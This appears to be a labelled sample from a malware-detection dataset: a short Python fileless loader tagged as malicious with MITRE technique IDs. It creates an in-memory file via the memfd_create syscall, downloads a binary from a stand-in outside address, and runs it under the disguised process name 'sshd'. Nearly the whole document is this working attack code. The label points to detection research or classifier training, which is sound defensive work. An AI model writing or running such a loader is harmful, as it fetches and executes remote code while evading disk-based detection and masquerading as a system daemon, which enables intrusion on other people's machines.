# label: malicious family=fileless techniques=T1620,T1027.011 lines=3-6
import ctypes, os, requests
libc = ctypes.CDLL(None)
memfd = libc.syscall(319, b"", 1)
os.write(memfd, requests.get("http://203.0.113.17/bin").content)
os.fexecve(memfd, ["sshd"], dict(os.environ))
